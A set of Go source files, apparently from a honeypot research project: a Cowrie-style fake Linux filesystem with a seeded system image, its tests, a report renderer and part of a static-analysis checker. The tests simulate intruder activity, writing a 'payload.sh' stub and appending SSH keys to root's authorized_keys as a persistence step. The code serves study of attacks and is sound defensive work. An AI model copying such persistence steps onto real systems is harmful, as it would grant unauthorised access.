		w.stmts(s.Body.List)
	case *ast.RangeStmt:
		w.stmts(s.Body.List)
	case *ast.SwitchStmt:
		for _, c := range s.Body.List {
			if cc, ok := c.(*ast.CaseClause); ok {
				w.stmts(cc.Body)
			}
		}
	case *ast.SelectStmt:
		for _, c := range s.Body.List {
			if cc, ok := c.(*ast.CommClause); ok {
				w.stmts(cc.Body)
			}
		}
	case *ast.LabeledStmt:
		w.stmt(s.Stmt)
	}
}

// recordStore registers the argument of an atomic.Pointer Store call as
// published. The root object is resolved through one level of & so both
// `cur.Store(snap)` and `cur.Store(&next)` freeze the right value.
func (w *snapMutWalker) recordStore(e ast.Expr) {
	call, ok := e.(*ast.CallExpr)
	if !ok || len(call.Args) != 1 {
		return
	}
	fn := calleeFunc(w.p.Pkg.Info, call.Fun)
	if fn == nil || w.p.Facts.Of(fn).Publishes == "" {
		return
	}
	arg := ast.Unparen(call.Args[0])
	if un, ok := arg.(*ast.UnaryExpr); ok {
		arg = ast.Unparen(un.X)
	}
	if id, ok := arg.(*ast.Ident); ok {
		if obj := w.p.Pkg.Info.Uses[id]; obj != nil {
			w.published[obj] = true
		}
	}
}

// checkWrites flags assignments and increments whose target is rooted
// at a published object.
func (w *snapMutWalker) checkWrites(s ast.Stmt) {
	switch s := s.(type) {
	case *ast.AssignStmt:
		for _, lhs := range s.Lhs {
			// Rebinding the variable to a fresh value is not a mutation of
			// the published snapshot; it un-publishes the name.
			if id, ok := ast.Unparen(lhs).(*ast.Ident); ok {
				if obj := w.p.Pkg.Info.Uses[id]; obj != nil {
					delete(w.published, obj)
				}
				continue
			}
			if obj := w.writeRoot(lhs); obj != nil {
				w.p.Reportf(lhs.Pos(), "write to %s after it was published via atomic.Pointer.Store; published snapshots are immutable — build the next snapshot fresh", obj.Name())
			}
		}
	case *ast.IncDecStmt:
		if obj := w.writeRoot(s.X); obj != nil {
			w.p.Reportf(s.X.Pos(), "write to %s after it was published via atomic.Pointer.Store; published snapshots are immutable — build the next snapshot fresh", obj.Name())
		}
	}
}

// writeRoot resolves a write target like snap.Counts[k] or snap.Seq to
// its root object, returning it only when published. A bare identifier
// target is a rebind, not a mutation, and is ignored.
func (w *snapMutWalker) writeRoot(e ast.Expr) types.Object {
	root := e
	mutates := false
	for {
		switch t := ast.Unparen(root).(type) {
		case *ast.SelectorExpr:
			root, mutates = t.X, true
		case *ast.IndexExpr:
			root, mutates = t.X, true
		case *ast.StarExpr:
			root, mutates = t.X, true
		case *ast.Ident:
			if !mutates {
				return nil
			}
			obj := w.p.Pkg.Info.Uses[t]
			if obj != nil && w.published[obj] {
				return obj
			}
			return nil
		default:
			return nil
		}
	}
}
