// Package vfs implements the honeypot's fake filesystem, mirroring
// Cowrie's "honeyfs": an in-memory Unix-like tree pre-seeded with a
// plausible Linux system image. Every file creation or modification is
// recorded with a SHA-256 hash of the file content — these hashes are the
// campaign signatures the paper analyzes in Section 8 (64,004 unique
// hashes over 15 months).
package vfs

import (
	"crypto/sha256"
	"encoding/hex"
	"errors"
	"fmt"
	"path"
	"sort"
	"strings"
	"sync"
	"time"
)

// Errors returned by filesystem operations.
var (
	ErrNotExist   = errors.New("vfs: no such file or directory")
	ErrExist      = errors.New("vfs: file exists")
	ErrNotDir     = errors.New("vfs: not a directory")
	ErrIsDir      = errors.New("vfs: is a directory")
	ErrPermission = errors.New("vfs: permission denied")
)

// FileOp distinguishes creations from modifications in the event stream.
type FileOp uint8

// FileOp values.
const (
	OpCreate FileOp = iota
	OpModify
)

func (op FileOp) String() string {
	if op == OpCreate {
		return "create"
	}
	return "modify"
}

// FileEvent records one file creation or modification, hash included.
// This is the unit the paper counts: "about one third [of command
// sessions] create or modify files, for which the honeypot records a hash
// of the file content".
type FileEvent struct {
	Path string
	Op   FileOp
	Hash string // hex SHA-256 of content
	Size int
	Time time.Time
}

// Node is one entry in the tree.
type Node struct {
	Name    string
	Dir     bool
	Mode    uint32 // permission bits
	UID     int
	GID     int
	Content []byte
	MTime   time.Time

	children map[string]*Node
}

// IsDir reports whether the node is a directory.
func (n *Node) IsDir() bool { return n.Dir }

// Size returns the content length for files, 4096 for directories.
func (n *Node) Size() int {
	if n.Dir {
		return 4096
	}
	return len(n.Content)
}

// FS is a mutable fake filesystem. It is safe for concurrent use; each
// honeypot session gets its own FS (cloned from a template) so intruders
// cannot observe each other.
type FS struct {
	mu     sync.Mutex
	root   *Node
	events []FileEvent
	now    func() time.Time
}

// New returns a filesystem pre-seeded with the baseline Linux image.
// The now function supplies timestamps for recorded events; pass nil for
// time.Now.
func New(now func() time.Time) *FS {
	if now == nil {
		now = time.Now
	}
	fs := &FS{
		root: &Node{Name: "/", Dir: true, Mode: 0o755, children: map[string]*Node{}},
		now:  now,
	}
	seed(fs)
	return fs
}

// Events returns the file events recorded so far, in order.
func (fs *FS) Events() []FileEvent {
	fs.mu.Lock()
	defer fs.mu.Unlock()
	return append([]FileEvent(nil), fs.events...)
}

// normalize resolves p against cwd into a clean absolute path.
func normalize(cwd, p string) string {
	if !strings.HasPrefix(p, "/") {
		p = path.Join(cwd, p)
	}
	return path.Clean(p)
}

// Normalize resolves p against cwd into a clean absolute path. It is the
// exported form used by the shell for cd and prompt handling.
func Normalize(cwd, p string) string { return normalize(cwd, p) }

func (fs *FS) lookup(abs string) (*Node, error) {
	if abs == "/" {
		return fs.root, nil
	}
	parts := strings.Split(strings.TrimPrefix(abs, "/"), "/")
	n := fs.root
	for _, part := range parts {
		if !n.Dir {
			return nil, ErrNotDir
		}
		child, ok := n.children[part]
		if !ok {
			return nil, ErrNotExist
		}
		n = child
	}
	return n, nil
}

// Stat returns the node at the path (resolved against cwd).
func (fs *FS) Stat(cwd, p string) (*Node, error) {
	fs.mu.Lock()
	defer fs.mu.Unlock()
	return fs.lookup(normalize(cwd, p))
}

// Exists reports whether a path exists.
func (fs *FS) Exists(cwd, p string) bool {
	_, err := fs.Stat(cwd, p)
	return err == nil
}

// ReadFile returns the content of a file.
func (fs *FS) ReadFile(cwd, p string) ([]byte, error) {
	fs.mu.Lock()
	defer fs.mu.Unlock()
	n, err := fs.lookup(normalize(cwd, p))
	if err != nil {
		return nil, err
	}
	if n.Dir {
		return nil, ErrIsDir
	}
	return n.Content, nil
}

// List returns the names in a directory, sorted.
func (fs *FS) List(cwd, p string) ([]*Node, error) {
	fs.mu.Lock()
	defer fs.mu.Unlock()
	n, err := fs.lookup(normalize(cwd, p))
	if err != nil {
		return nil, err
	}
	if !n.Dir {
		return []*Node{n}, nil
	}
	names := make([]string, 0, len(n.children))
	for name := range n.children {
		names = append(names, name)
	}
	sort.Strings(names)
	out := make([]*Node, len(names))
	for i, name := range names {
		out[i] = n.children[name]
	}
	return out, nil
}

// Mkdir creates a single directory.
func (fs *FS) Mkdir(cwd, p string, mode uint32) error {
	fs.mu.Lock()
	defer fs.mu.Unlock()
	abs := normalize(cwd, p)
	dir, base := path.Split(abs)
	parent, err := fs.lookup(path.Clean(dir))
	if err != nil {
		return err
	}
	if !parent.Dir {
		return ErrNotDir
	}
	if _, ok := parent.children[base]; ok {
		return ErrExist
	}
	parent.children[base] = &Node{Name: base, Dir: true, Mode: mode, MTime: fs.now(), children: map[string]*Node{}}
	return nil
}

// MkdirAll creates a directory and any missing parents. Existing
// directories are left untouched.
func (fs *FS) MkdirAll(cwd, p string, mode uint32) error {
	fs.mu.Lock()
	defer fs.mu.Unlock()
	abs := normalize(cwd, p)
	if abs == "/" {
		return nil
	}
	parts := strings.Split(strings.TrimPrefix(abs, "/"), "/")
	n := fs.root
	for _, part := range parts {
		if !n.Dir {
			return ErrNotDir
		}
		child, ok := n.children[part]
		if !ok {
			child = &Node{Name: part, Dir: true, Mode: mode, MTime: fs.now(), children: map[string]*Node{}}
			n.children[part] = child
		}
		n = child
	}
	if !n.Dir {
		return ErrNotDir
	}
	return nil
}

// WriteFile creates or replaces a file, records a FileEvent with the
// SHA-256 of the content, and returns the event.
func (fs *FS) WriteFile(cwd, p string, content []byte, mode uint32) (FileEvent, error) {
	fs.mu.Lock()
	defer fs.mu.Unlock()
	return fs.writeLocked(cwd, p, content, mode, false)
}

// AppendFile appends to a file (creating it if needed) and records a
// FileEvent.
func (fs *FS) AppendFile(cwd, p string, content []byte, mode uint32) (FileEvent, error) {
	fs.mu.Lock()
	defer fs.mu.Unlock()
	return fs.writeLocked(cwd, p, content, mode, true)
}

func (fs *FS) writeLocked(cwd, p string, content []byte, mode uint32, appendTo bool) (FileEvent, error) {
	abs := normalize(cwd, p)
	dir, base := path.Split(abs)
	if base == "" {
		return FileEvent{}, ErrIsDir
	}
	parent, err := fs.lookup(path.Clean(dir))
	if err != nil {
		return FileEvent{}, err
	}
	if !parent.Dir {
		return FileEvent{}, ErrNotDir
	}
	op := OpModify
	n, ok := parent.children[base]
	if !ok {
		op = OpCreate
		n = &Node{Name: base, Mode: mode}
		parent.children[base] = n
	} else if n.Dir {
		return FileEvent{}, ErrIsDir
	}
	if appendTo {
		n.Content = append(n.Content, content...)
	} else {
		n.Content = append([]byte(nil), content...)
	}
	n.MTime = fs.now()
	ev := FileEvent{
		Path: abs,
		Op:   op,
		Hash: HashContent(n.Content),
		Size: len(n.Content),
		Time: n.MTime,
	}
	fs.events = append(fs.events, ev)
	return ev, nil
}

// Remove deletes a file or empty directory.
func (fs *FS) Remove(cwd, p string) error {
	fs.mu.Lock()
	defer fs.mu.Unlock()
	abs := normalize(cwd, p)
	if abs == "/" {
		return ErrPermission
	}
	dir, base := path.Split(abs)
	parent, err := fs.lookup(path.Clean(dir))
	if err != nil {
		return err
	}
	n, ok := parent.children[base]
	if !ok {
		return ErrNotExist
	}
	if n.Dir && len(n.children) > 0 {
		return fmt.Errorf("vfs: directory not empty")
	}
	delete(parent.children, base)
	return nil
}

// RemoveAll deletes a path recursively; missing paths are not an error.
func (fs *FS) RemoveAll(cwd, p string) error {
	fs.mu.Lock()
	defer fs.mu.Unlock()
	abs := normalize(cwd, p)
	if abs == "/" {
		return ErrPermission
	}
	dir, base := path.Split(abs)
	parent, err := fs.lookup(path.Clean(dir))
	if err != nil {
		if errors.Is(err, ErrNotExist) {
			return nil
		}
		return err
	}
	delete(parent.children, base)
	return nil
}

// Chmod changes a node's permission bits.
func (fs *FS) Chmod(cwd, p string, mode uint32) error {
	fs.mu.Lock()
	defer fs.mu.Unlock()
	n, err := fs.lookup(normalize(cwd, p))
	if err != nil {
		return err
	}
	n.Mode = mode
	return nil
}

// HashContent returns the hex SHA-256 of content — the hash format the
// collector stores for every file create/modify.
func HashContent(content []byte) string {
	sum := sha256.Sum256(content)
	return hex.EncodeToString(sum[:])
}

// Clone returns a deep copy of the filesystem with an empty event log,
// used to give each session a pristine system image.
func (fs *FS) Clone() *FS {
	fs.mu.Lock()
	defer fs.mu.Unlock()
	return &FS{root: cloneNode(fs.root), now: fs.now}
}

func cloneNode(n *Node) *Node {
	c := &Node{
		Name: n.Name, Dir: n.Dir, Mode: n.Mode, UID: n.UID, GID: n.GID,
		Content: append([]byte(nil), n.Content...), MTime: n.MTime,
	}
	if n.children != nil {
		c.children = make(map[string]*Node, len(n.children))
		for name, child := range n.children {
			c.children[name] = cloneNode(child)
		}
	}
	return c
}
