package vfs

import "fmt"

// seed populates a fresh FS with the baseline Linux system image the
// honeypot presents: the directory skeleton, passwd/shadow, /proc
// information files (the paper's Table 3 shows `cat /proc/cpuinfo` among
// the most popular intruder commands), and a handful of busybox-style
// binaries. Seeding does not generate file events.
func seed(fs *FS) {
	dirs := []string{
		"/bin", "/boot", "/dev", "/etc", "/etc/init.d", "/home",
		"/lib", "/mnt", "/opt", "/proc", "/root", "/sbin", "/sys",
		"/tmp", "/usr", "/usr/bin", "/usr/sbin", "/usr/lib",
		"/var", "/var/log", "/var/run", "/var/tmp", "/var/www",
	}
	for _, d := range dirs {
		if err := fs.MkdirAll("/", d, 0o755); err != nil {
			panic(fmt.Sprintf("vfs seed: %v", err))
		}
	}
	files := map[string]string{
		"/etc/passwd": "root:x:0:0:root:/root:/bin/bash\n" +
			"daemon:x:1:1:daemon:/usr/sbin:/usr/sbin/nologin\n" +
			"bin:x:2:2:bin:/bin:/usr/sbin/nologin\n" +
			"sys:x:3:3:sys:/dev:/usr/sbin/nologin\n" +
			"www-data:x:33:33:www-data:/var/www:/usr/sbin/nologin\n" +
			"sshd:x:105:65534::/run/sshd:/usr/sbin/nologin\n",
		"/etc/shadow": "root:$6$aQ7BeIvq$XoQ3Rq:18723:0:99999:7:::\n" +
			"daemon:*:18375:0:99999:7:::\n",
		"/etc/hostname": "svr04\n",
		"/etc/hosts":    "127.0.0.1\tlocalhost\n127.0.1.1\tsvr04\n",
		"/etc/issue":    "Debian GNU/Linux 10 \\n \\l\n",
		"/etc/os-release": "PRETTY_NAME=\"Debian GNU/Linux 10 (buster)\"\n" +
			"NAME=\"Debian GNU/Linux\"\nVERSION_ID=\"10\"\nID=debian\n",
		"/etc/resolv.conf": "nameserver 8.8.8.8\nnameserver 8.8.4.4\n",
		"/proc/cpuinfo": "processor\t: 0\nvendor_id\t: GenuineIntel\ncpu family\t: 6\n" +
			"model\t\t: 142\nmodel name\t: Intel(R) Core(TM) i5-8250U CPU @ 1.60GHz\n" +
			"stepping\t: 10\ncpu MHz\t\t: 1600.012\ncache size\t: 6144 KB\n" +
			"physical id\t: 0\nsiblings\t: 1\ncore id\t\t: 0\ncpu cores\t: 1\n" +
			"bogomips\t: 3840.00\n\n",
		"/proc/meminfo": "MemTotal:         1014840 kB\nMemFree:          672544 kB\n" +
			"MemAvailable:     786568 kB\nBuffers:           18096 kB\n" +
			"Cached:           164012 kB\nSwapTotal:              0 kB\nSwapFree:               0 kB\n",
		"/proc/version": "Linux version 4.19.0-18-amd64 (debian-kernel@lists.debian.org) " +
			"(gcc version 8.3.0 (Debian 8.3.0-6)) #1 SMP Debian 4.19.208-1 (2021-09-29)\n",
		"/proc/uptime":      "1432932.48 1402346.43\n",
		"/proc/loadavg":     "0.00 0.01 0.05 1/120 8764\n",
		"/proc/mounts":      "/dev/sda1 / ext4 rw,relatime,errors=remount-ro 0 0\nproc /proc proc rw 0 0\n",
		"/var/log/wtmp":     "",
		"/var/log/lastlog":  "",
		"/var/log/auth.log": "",
		"/root/.bashrc":     "# ~/.bashrc\nexport PS1='\\u@\\h:\\w\\$ '\n",
		"/root/.profile":    "# ~/.profile\n",
	}
	for p, content := range files {
		if _, err := fs.writeSeed(p, []byte(content), 0o644); err != nil {
			panic(fmt.Sprintf("vfs seed %s: %v", p, err))
		}
	}
	// Fake binaries: content is a short ELF-like marker so hashes differ.
	bins := []string{
		"bash", "sh", "ls", "cat", "echo", "cp", "mv", "rm", "chmod", "chown",
		"ps", "grep", "uname", "free", "w", "who", "id", "wget", "curl",
		"tftp", "ftpget", "scp", "dd", "mkdir", "rmdir", "touch", "head",
		"tail", "which", "nproc", "uptime", "history", "passwd", "awk",
		"crontab", "kill", "top", "df", "du", "mount", "busybox", "lscpu",
	}
	for _, b := range bins {
		marker := []byte("\x7fELF\x02\x01\x01" + b)
		if _, err := fs.writeSeed("/bin/"+b, marker, 0o755); err != nil {
			panic(fmt.Sprintf("vfs seed bin %s: %v", b, err))
		}
	}
}

// writeSeed writes without recording an event (the baseline image is not
// attacker activity).
func (fs *FS) writeSeed(p string, content []byte, mode uint32) (*Node, error) {
	fs.mu.Lock()
	defer fs.mu.Unlock()
	ev, err := fs.writeLocked("/", p, content, mode, false)
	if err != nil {
		return nil, err
	}
	_ = ev
	fs.events = fs.events[:0]
	n, err := fs.lookup(normalize("/", p))
	return n, err
}
