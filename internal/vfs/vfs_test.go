package vfs

import (
	"errors"
	"strings"
	"testing"
	"testing/quick"
	"time"
)

func fixedNow() time.Time { return time.Date(2022, 6, 1, 12, 0, 0, 0, time.UTC) }

func TestSeedImage(t *testing.T) {
	fs := New(fixedNow)
	for _, p := range []string{"/etc/passwd", "/proc/cpuinfo", "/bin/wget", "/tmp", "/root/.bashrc"} {
		if !fs.Exists("/", p) {
			t.Errorf("seed image missing %s", p)
		}
	}
	if got := fs.Events(); len(got) != 0 {
		t.Errorf("seeding recorded %d events, want 0", len(got))
	}
	content, err := fs.ReadFile("/", "/etc/passwd")
	if err != nil || !strings.Contains(string(content), "root:x:0:0") {
		t.Errorf("passwd content wrong: %q err=%v", content, err)
	}
}

func TestWriteFileRecordsEvents(t *testing.T) {
	fs := New(fixedNow)
	ev, err := fs.WriteFile("/root", "payload.sh", []byte("#!/bin/sh\necho pwned\n"), 0o755)
	if err != nil {
		t.Fatal(err)
	}
	if ev.Op != OpCreate {
		t.Errorf("Op = %v, want create", ev.Op)
	}
	if ev.Path != "/root/payload.sh" {
		t.Errorf("Path = %s", ev.Path)
	}
	if ev.Hash != HashContent([]byte("#!/bin/sh\necho pwned\n")) {
		t.Error("hash mismatch")
	}
	ev2, err := fs.WriteFile("/root", "payload.sh", []byte("changed"), 0o755)
	if err != nil {
		t.Fatal(err)
	}
	if ev2.Op != OpModify {
		t.Errorf("second write Op = %v, want modify", ev2.Op)
	}
	if ev2.Hash == ev.Hash {
		t.Error("modified content must hash differently")
	}
	if evs := fs.Events(); len(evs) != 2 {
		t.Errorf("events = %d, want 2", len(evs))
	}
}

func TestAppendFile(t *testing.T) {
	fs := New(fixedNow)
	if _, err := fs.AppendFile("/root", ".ssh/authorized_keys", []byte("ssh-rsa AAAA...\n"), 0o600); !errors.Is(err, ErrNotExist) {
		t.Fatalf("append into missing dir: err = %v, want ErrNotExist", err)
	}
	if err := fs.MkdirAll("/root", ".ssh", 0o700); err != nil {
		t.Fatal(err)
	}
	ev, err := fs.AppendFile("/root", ".ssh/authorized_keys", []byte("ssh-rsa AAAA key1\n"), 0o600)
	if err != nil || ev.Op != OpCreate {
		t.Fatalf("first append: ev=%+v err=%v", ev, err)
	}
	ev2, err := fs.AppendFile("/root", ".ssh/authorized_keys", []byte("ssh-rsa BBBB key2\n"), 0o600)
	if err != nil || ev2.Op != OpModify {
		t.Fatalf("second append: ev=%+v err=%v", ev2, err)
	}
	content, _ := fs.ReadFile("/", "/root/.ssh/authorized_keys")
	if !strings.Contains(string(content), "key1") || !strings.Contains(string(content), "key2") {
		t.Errorf("appended content wrong: %q", content)
	}
}

func TestRelativePathsAndDotDot(t *testing.T) {
	fs := New(fixedNow)
	if _, err := fs.WriteFile("/var/log", "../tmp/x", []byte("x"), 0o644); err != nil {
		t.Fatal(err)
	}
	if !fs.Exists("/", "/var/tmp/x") {
		t.Error("relative .. path not resolved")
	}
	if got := Normalize("/root", "../etc//passwd"); got != "/etc/passwd" {
		t.Errorf("Normalize = %s", got)
	}
	if got := Normalize("/", "../../.."); got != "/" {
		t.Errorf("escaping root = %s, want /", got)
	}
}

func TestListSorted(t *testing.T) {
	fs := New(fixedNow)
	nodes, err := fs.List("/", "/etc")
	if err != nil {
		t.Fatal(err)
	}
	for i := 1; i < len(nodes); i++ {
		if nodes[i-1].Name >= nodes[i].Name {
			t.Errorf("listing not sorted: %s >= %s", nodes[i-1].Name, nodes[i].Name)
		}
	}
	// Listing a file returns the file itself.
	nodes, err = fs.List("/", "/etc/passwd")
	if err != nil || len(nodes) != 1 || nodes[0].Name != "passwd" {
		t.Errorf("List(file) = %v, %v", nodes, err)
	}
}

func TestMkdirErrors(t *testing.T) {
	fs := New(fixedNow)
	if err := fs.Mkdir("/", "/etc", 0o755); !errors.Is(err, ErrExist) {
		t.Errorf("Mkdir existing = %v, want ErrExist", err)
	}
	if err := fs.Mkdir("/", "/nope/sub", 0o755); !errors.Is(err, ErrNotExist) {
		t.Errorf("Mkdir missing parent = %v, want ErrNotExist", err)
	}
	if err := fs.Mkdir("/", "/etc/passwd/sub", 0o755); !errors.Is(err, ErrNotDir) {
		t.Errorf("Mkdir under file = %v, want ErrNotDir", err)
	}
}

func TestRemove(t *testing.T) {
	fs := New(fixedNow)
	if err := fs.Remove("/", "/etc/passwd"); err != nil {
		t.Fatal(err)
	}
	if fs.Exists("/", "/etc/passwd") {
		t.Error("file still exists after Remove")
	}
	if err := fs.Remove("/", "/etc"); err == nil {
		t.Error("removing non-empty dir should fail")
	}
	if err := fs.Remove("/", "/"); !errors.Is(err, ErrPermission) {
		t.Errorf("removing / = %v, want ErrPermission", err)
	}
	if err := fs.RemoveAll("/", "/etc"); err != nil {
		t.Fatal(err)
	}
	if fs.Exists("/", "/etc") {
		t.Error("dir still exists after RemoveAll")
	}
	if err := fs.RemoveAll("/", "/never/was/here"); err != nil {
		t.Errorf("RemoveAll missing = %v, want nil", err)
	}
}

func TestChmod(t *testing.T) {
	fs := New(fixedNow)
	if err := fs.Chmod("/", "/etc/passwd", 0o777); err != nil {
		t.Fatal(err)
	}
	n, _ := fs.Stat("/", "/etc/passwd")
	if n.Mode != 0o777 {
		t.Errorf("Mode = %o, want 777", n.Mode)
	}
	if err := fs.Chmod("/", "/missing", 0o777); !errors.Is(err, ErrNotExist) {
		t.Errorf("Chmod missing = %v", err)
	}
}

func TestReadFileErrors(t *testing.T) {
	fs := New(fixedNow)
	if _, err := fs.ReadFile("/", "/etc"); !errors.Is(err, ErrIsDir) {
		t.Errorf("ReadFile(dir) = %v, want ErrIsDir", err)
	}
	if _, err := fs.ReadFile("/", "/missing"); !errors.Is(err, ErrNotExist) {
		t.Errorf("ReadFile(missing) = %v, want ErrNotExist", err)
	}
	if _, err := fs.ReadFile("/", "/etc/passwd/x"); !errors.Is(err, ErrNotDir) {
		t.Errorf("ReadFile(under file) = %v, want ErrNotDir", err)
	}
}

func TestCloneIsolation(t *testing.T) {
	base := New(fixedNow)
	c := base.Clone()
	if _, err := c.WriteFile("/tmp", "mal.bin", []byte("malware"), 0o755); err != nil {
		t.Fatal(err)
	}
	if base.Exists("/", "/tmp/mal.bin") {
		t.Error("write to clone leaked into base")
	}
	if len(base.Events()) != 0 {
		t.Error("clone events leaked into base")
	}
	if len(c.Events()) != 1 {
		t.Error("clone should record its own events")
	}
	// Baseline files are present in the clone.
	if !c.Exists("/", "/etc/passwd") {
		t.Error("clone missing baseline files")
	}
}

func TestHashContentStable(t *testing.T) {
	h1 := HashContent([]byte("abc"))
	h2 := HashContent([]byte("abc"))
	if h1 != h2 || len(h1) != 64 {
		t.Errorf("HashContent unstable or wrong length: %s vs %s", h1, h2)
	}
	if HashContent([]byte("abd")) == h1 {
		t.Error("different content must hash differently")
	}
}

func TestNodeSize(t *testing.T) {
	fs := New(fixedNow)
	d, _ := fs.Stat("/", "/etc")
	if d.Size() != 4096 || !d.IsDir() {
		t.Errorf("dir size/type wrong: %d", d.Size())
	}
	f, _ := fs.Stat("/", "/etc/hostname")
	if f.Size() != len("svr04\n") || f.IsDir() {
		t.Errorf("file size wrong: %d", f.Size())
	}
}

// Property: Normalize is idempotent and always yields an absolute clean path.
func TestQuickNormalize(t *testing.T) {
	f := func(cwdRaw, pRaw string) bool {
		cwd := "/" + strings.Trim(strings.ReplaceAll(cwdRaw, "\x00", ""), "/")
		p := strings.ReplaceAll(pRaw, "\x00", "")
		got := Normalize(cwd, p)
		if !strings.HasPrefix(got, "/") {
			return false
		}
		return Normalize("/", got) == got
	}
	if err := quick.Check(f, nil); err != nil {
		t.Fatal(err)
	}
}

// Property: WriteFile then ReadFile round-trips arbitrary content.
func TestQuickWriteReadRoundTrip(t *testing.T) {
	fs := New(fixedNow)
	f := func(content []byte) bool {
		if _, err := fs.WriteFile("/tmp", "blob", content, 0o644); err != nil {
			return false
		}
		got, err := fs.ReadFile("/tmp", "blob")
		if err != nil || len(got) != len(content) {
			return false
		}
		for i := range got {
			if got[i] != content[i] {
				return false
			}
		}
		return true
	}
	if err := quick.Check(f, &quick.Config{MaxCount: 200}); err != nil {
		t.Fatal(err)
	}
}

func BenchmarkClone(b *testing.B) {
	fs := New(fixedNow)
	b.ReportAllocs()
	for i := 0; i < b.N; i++ {
		fs.Clone()
	}
}

func BenchmarkWriteFile(b *testing.B) {
	fs := New(fixedNow)
	content := []byte(strings.Repeat("x", 512))
	b.ReportAllocs()
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		if _, err := fs.WriteFile("/tmp", "bench", content, 0o644); err != nil {
			b.Fatal(err)
		}
	}
}
