// Package report renders the paper's tables and figures from analysis
// results: fixed-width ASCII tables for Tables 1–6 and CSV-style series
// for every figure, so `cmd/analyze` and the benchmark harness print the
// same rows the paper reports.
package report

import (
	"fmt"
	"io"
	"sort"
	"strings"

	"honeyfarm/internal/analysis"
	"honeyfarm/internal/geo"
	"honeyfarm/internal/stats"
)

// Table writes a fixed-width ASCII table.
func Table(w io.Writer, headers []string, rows [][]string) {
	widths := make([]int, len(headers))
	for i, h := range headers {
		widths[i] = len(h)
	}
	for _, row := range rows {
		for i, cell := range row {
			if i < len(widths) && len(cell) > widths[i] {
				widths[i] = len(cell)
			}
		}
	}
	line := func(cells []string) {
		parts := make([]string, len(cells))
		for i, c := range cells {
			parts[i] = fmt.Sprintf("%-*s", widths[i], c)
		}
		fmt.Fprintln(w, strings.TrimRight(strings.Join(parts, "  "), " "))
	}
	line(headers)
	sep := make([]string, len(headers))
	for i := range sep {
		sep[i] = strings.Repeat("-", widths[i])
	}
	line(sep)
	for _, row := range rows {
		line(row)
	}
}

// CSV writes a header and rows in comma-separated form.
func CSV(w io.Writer, headers []string, rows [][]string) {
	fmt.Fprintln(w, strings.Join(headers, ","))
	for _, row := range rows {
		fmt.Fprintln(w, strings.Join(row, ","))
	}
}

func pct(v float64) string { return fmt.Sprintf("%.2f%%", 100*v) }

// Table1 renders the session-category × protocol breakdown.
func Table1(w io.Writer, cs analysis.CategoryShares) {
	headers := []string{"Protocol", "NO_CRED", "FAIL_LOG", "NO_CMD", "CMD", "CMD+URI"}
	all := []string{"all"}
	ssh := []string{"SSH"}
	tel := []string{"Telnet"}
	for c := analysis.Category(0); c < analysis.NumCategories; c++ {
		all = append(all, pct(cs.Overall[c]))
		ssh = append(ssh, pct(cs.SSHShareOfCategory[c]))
		tel = append(tel, pct(1-cs.SSHShareOfCategory[c]))
	}
	fmt.Fprintf(w, "Table 1: %% of %d sessions per category (SSH total %s)\n", cs.Total, pct(cs.SSHTotal))
	Table(w, headers, [][]string{all, ssh, tel})
}

// TopCounted renders a top-N table of (value, count) pairs, used for
// Table 2 (passwords) and Table 3 (commands).
func TopCounted(w io.Writer, title, valueHeader string, top []analysis.Counted) {
	fmt.Fprintln(w, title)
	rows := make([][]string, len(top))
	for i, c := range top {
		rows[i] = []string{fmt.Sprintf("%d", i+1), c.Value, fmt.Sprintf("%d", c.Count)}
	}
	Table(w, []string{"#", valueHeader, "count"}, rows)
}

// HashTable renders Tables 4/5/6: the top-N hashes under a sort key.
func HashTable(w io.Writer, title string, hs []analysis.HashStat, n int) {
	fmt.Fprintln(w, title)
	if n > len(hs) {
		n = len(hs)
	}
	rows := make([][]string, n)
	for i := 0; i < n; i++ {
		h := hs[i]
		rows[i] = []string{
			shortHash(h.Hash),
			fmt.Sprintf("%d", h.Sessions),
			fmt.Sprintf("%d", h.ClientIPs),
			fmt.Sprintf("%d", h.Days),
			h.Tag,
			fmt.Sprintf("%d", h.Honeypots),
		}
	}
	Table(w, []string{"Hash", "#Sessions", "#UniqueIPs", "#Days", "Tag", "#Honeypots"}, rows)
}

func shortHash(h string) string {
	if len(h) > 12 {
		return h[:12] + "…"
	}
	return h
}

// RankSeries renders a descending rank curve (Figures 2, 14, 18–21) as
// sampled CSV rows plus headline statistics.
func RankSeries(w io.Writer, title string, values []float64, samplePoints int) {
	fmt.Fprintln(w, title)
	if len(values) == 0 {
		fmt.Fprintln(w, "(empty)")
		return
	}
	total := 0.0
	for _, v := range values {
		total += v
	}
	fmt.Fprintf(w, "  n=%d max=%.0f min=%.0f max/min=%.1f top10=%s knee=rank %d\n",
		len(values), values[0], values[len(values)-1],
		safeRatio(values[0], values[len(values)-1]),
		pct(stats.TopShare(values, 10)), stats.Knee(values))
	rows := sampleRank(values, samplePoints)
	CSV(w, []string{"rank", "value"}, rows)
}

func safeRatio(a, b float64) float64 {
	if b == 0 {
		return 0
	}
	return a / b
}

func sampleRank(values []float64, n int) [][]string {
	if n <= 0 || n > len(values) {
		n = len(values)
	}
	rows := make([][]string, 0, n)
	for i := 0; i < n; i++ {
		idx := i * (len(values) - 1) / max(1, n-1)
		rows = append(rows, []string{fmt.Sprintf("%d", idx+1), fmt.Sprintf("%.0f", values[idx])})
	}
	return rows
}

func max(a, b int) int {
	if a > b {
		return a
	}
	return b
}

// BandSeries renders a percentile-band time series (Figures 3, 4, 8, 9)
// as CSV with a row per day.
func BandSeries(w io.Writer, title string, s stats.Series, stride int) {
	fmt.Fprintln(w, title)
	if stride < 1 {
		stride = 1
	}
	rows := make([][]string, 0, len(s.Bands)/stride+1)
	for d := 0; d < len(s.Bands); d += stride {
		b := s.Bands[d]
		rows = append(rows, []string{
			fmt.Sprintf("%d", d),
			fmt.Sprintf("%.0f", b.P5), fmt.Sprintf("%.0f", b.P25),
			fmt.Sprintf("%.0f", b.Median),
			fmt.Sprintf("%.0f", b.P75), fmt.Sprintf("%.0f", b.P95),
		})
	}
	CSV(w, []string{"day", "p5", "p25", "median", "p75", "p95"}, rows)
}

// ECDFSeries renders an ECDF (Figures 7, 12, 13, 22) as sampled points.
func ECDFSeries(w io.Writer, title string, e *stats.ECDF, points int) {
	fmt.Fprintln(w, title)
	rows := [][]string{}
	for _, p := range e.Points(points) {
		rows = append(rows, []string{fmt.Sprintf("%.2f", p.X), fmt.Sprintf("%.4f", p.Y)})
	}
	CSV(w, []string{"x", "P(X<=x)"}, rows)
}

// CategoryTimeline renders Figure 6: stacked category fractions per day
// plus the daily total.
func CategoryTimeline(w io.Writer, tl analysis.CategoryTimeline, stride int) {
